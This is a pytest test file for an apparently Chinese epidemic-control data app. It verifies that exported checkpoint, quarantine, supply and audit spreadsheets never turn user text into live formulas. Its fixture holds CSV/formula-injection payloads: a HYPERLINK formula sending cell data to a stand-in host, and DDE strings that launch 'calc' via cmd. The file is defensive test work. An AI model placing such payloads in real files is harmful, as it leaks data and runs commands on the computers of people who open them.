"""Text typed by a user is text in every file the app writes: never a live formula in Excel or WPS.

A name, note, reason or counterparty that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is stored as typed; every export writes it as a string cell (XLSX) or behind an apostrophe (CSV, OWASP), a
negative quantity stays a number, and an exported file imports back to the same text.
"""

from __future__ import annotations

import csv
import io
import tomllib
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from data_layer import audit, clock, quarantine, supplies, transfer, workbook
from data_layer import checkpoints as cp
from data_layer.db import Actor, connect, perform
from support import id_number

TODAY = clock.today()
YESTERDAY = TODAY - timedelta(days=1)
FORMULAS = {
    "equals": '=HYPERLINK("http://x.invalid/?"&A2,"点此")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "apostrophe": "'=1+1",
    "apostrophe_text": "'某某",
}
"""Texts the forms store as typed (a form trims a leading tab or carriage return, tested on its own below)."""
TEXT_KINDS = {
    "checkpoint_counts": ("note",),
    "quarantine": ("name", "reason"),
    "followups": ("symptom_text",),
    "supply_movements": ("counterparty", "note"),
}


@pytest.fixture
def hostile(engine, admin) -> dict[str, str]:
    """One row per kind whose free text begins with each formula trigger in turn, and a negative adjustment."""
    texts = list(FORMULAS.values())
    gate = perform(engine, admin, cp.add_checkpoint, {"name": "东门", "grid": "第一网格", "kind": "road"})
    for hour, text in enumerate(texts):
        start = clock.day_bounds(YESTERDAY)[0] + timedelta(hours=hour)
        perform(
            engine,
            admin,
            cp.add_count,
            {
                "checkpoint": gate,
                "period_start": start,
                "period_end": start + timedelta(minutes=30),
                "persons": 1,
                "vehicles": 0,
                "fever": 0,
                "turned_back": 0,
                "note": text,
            },
        )
    for n, text in enumerate(texts, start=1):
        episode = perform(
            engine,
            admin,
            quarantine.register,
            {
                "name": text,
                "id_number": id_number(n),
                "phone": f"1380000{n:04d}",
                "grid": "第一网格",
                "origin_category": "other_province",
                "mode": "home",
                "start_date": YESTERDAY,
                "reason": text,
            },
        )
        perform(
            engine,
            admin,
            quarantine.add_followup,
            {"episode_id": episode, "date": TODAY, "slot": "AM", "temperature": 36.5, "by": "甲", "symptom_text": text},
        )
    perform(engine, admin, supplies.add_item, {"name": "口罩", "unit": "个"})
    perform(
        engine, admin, supplies.add_movement, {"item": "口罩", "date": YESTERDAY, "kind": "purchase", "quantity": 1000}
    )
    for text in texts:
        perform(
            engine,
            admin,
            supplies.add_movement,
            {
                "item": "口罩",
                "date": YESTERDAY,
                "kind": "issue",
                "quantity": 1,
                "counterparty": text,
                "note": text,
                "recipient_kind": "other",
            },
        )
    perform(
        engine,
        admin,
        supplies.add_movement,
        {"item": "口罩", "date": YESTERDAY, "kind": "adjustment", "quantity": -5, "note": "盘亏"},
    )
    return FORMULAS


def assert_no_formula(data: bytes) -> list[object]:
    """Every cell of every sheet of the workbook is a value, none a formula; returns the values."""
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    return [cell.value for cell in cells]


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def read_rows(kind: str, path: Path) -> list[dict]:
    """The rows an import of ``path`` reads, by column name."""
    return [row for _, row in transfer.parse_rows(transfer.transfer_kind(kind), *transfer.read_table(path))]


@pytest.mark.parametrize("kind", sorted(TEXT_KINDS))
def test_an_xlsx_export_writes_every_text_as_a_string_cell(engine, hostile, tmp_path, kind):
    path = tmp_path / f"{kind}.xlsx"
    transfer.export_file(engine, kind, path)
    values = assert_no_formula(path.read_bytes())
    assert set(hostile.values()) <= set(values)


@pytest.mark.parametrize("kind", sorted(TEXT_KINDS))
def test_a_csv_export_puts_an_apostrophe_before_every_text_a_spreadsheet_would_evaluate(
    engine, hostile, tmp_path, kind
):
    path = tmp_path / f"{kind}.csv"
    transfer.export_file(engine, kind, path)
    cells = csv_cells(path)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert {"'" + text for text in hostile.values()} <= set(cells)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["checkpoint_counts", "supply_movements"])
def test_an_export_imports_back_to_the_same_text(engine, database_factory, hostile, tmp_path, kind, suffix, admin):
    path = tmp_path / f"{kind}.{suffix}"
    transfer.export_file(engine, kind, path)
    copy = connect(database_factory.fresh_url())
    try:
        for master in {"checkpoint_counts": ["checkpoints"], "supply_movements": ["supply_items"]}[kind]:
            master_path = tmp_path / f"{master}.{suffix}"
            transfer.export_file(engine, master, master_path)
            transfer.import_file(copy, admin, master, master_path)
        transfer.import_file(copy, admin, kind, path)
        again = tmp_path / f"again.{suffix}"
        transfer.export_file(copy, kind, again)
    finally:
        copy.dispose()
    rows, rows_again = read_rows(kind, path), read_rows(kind, again)
    assert all(set(hostile.values()) <= {row[column] for row in rows} for column in TEXT_KINDS[kind])
    assert rows_again == rows


def test_a_negative_quantity_stays_a_number_in_every_export(engine, hostile, tmp_path):
    transfer.export_file(engine, "supply_movements", tmp_path / "moves.csv")
    transfer.export_file(engine, "supply_movements", tmp_path / "moves.xlsx")
    assert "-5" in csv_cells(tmp_path / "moves.csv")
    assert -5 in assert_no_formula((tmp_path / "moves.xlsx").read_bytes())
    with engine.connect() as conn:
        ledger = supplies.ledger_workbook(conn, YESTERDAY, TODAY)
    assert -5 in assert_no_formula(ledger)


def test_the_supply_ledger_workbook_writes_counterparties_and_notes_as_text(engine, hostile):
    with engine.connect() as conn:
        values = assert_no_formula(supplies.ledger_workbook(conn, YESTERDAY, TODAY))
    assert set(hostile.values()) <= set(values)


@pytest.mark.parametrize("role", ["admin", "leader"])
def test_the_register_and_follow_up_workbooks_write_names_and_texts_as_text(engine, hostile, role):
    actor = Actor(f"{role}-test", role)
    with engine.connect() as conn:
        register = assert_no_formula(quarantine.register_workbook(conn, TODAY, actor=actor))
        followups = assert_no_formula(quarantine.followups_workbook(conn, TODAY, actor=actor, per_person=True))
    assert set(hostile.values()) <= set(register)
    assert set(hostile.values()) <= set(followups)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@x", "\t=1", "\r=1", "'=1", "''x", "'x", "x=1", "", "-"])
def test_csv_text_reads_back_to_what_was_written_and_never_starts_with_a_trigger(text):
    written = workbook.csv_text(text)
    assert workbook.csv_text_read(written) == text
    assert not written.startswith(workbook.FORMULA_TRIGGERS)


def test_csv_text_leaves_numbers_and_a_clerks_own_apostrophe_alone():
    assert workbook.csv_text(-5) == -5
    assert workbook.csv_text_read("'某某") == "'某某"


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_audit_log_export_writes_a_user_name_as_text(engine, tmp_path, suffix):
    perform(engine, Actor(FORMULAS["equals"], "admin"), supplies.add_item, {"name": "手套", "unit": "副"})
    path = tmp_path / f"audit.{suffix}"
    audit.export_audit(engine, audit.AuditFilter(), path)
    if suffix == "xlsx":
        assert FORMULAS["equals"] in assert_no_formula(path.read_bytes())
    else:
        assert "'" + FORMULAS["equals"] in csv_cells(path)


def test_tables_offer_no_download_of_their_own():
    """Streamlit's table toolbar writes CSV without neutralising formulas: the app turns it off."""
    config = tomllib.loads((Path(__file__).parent.parent / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
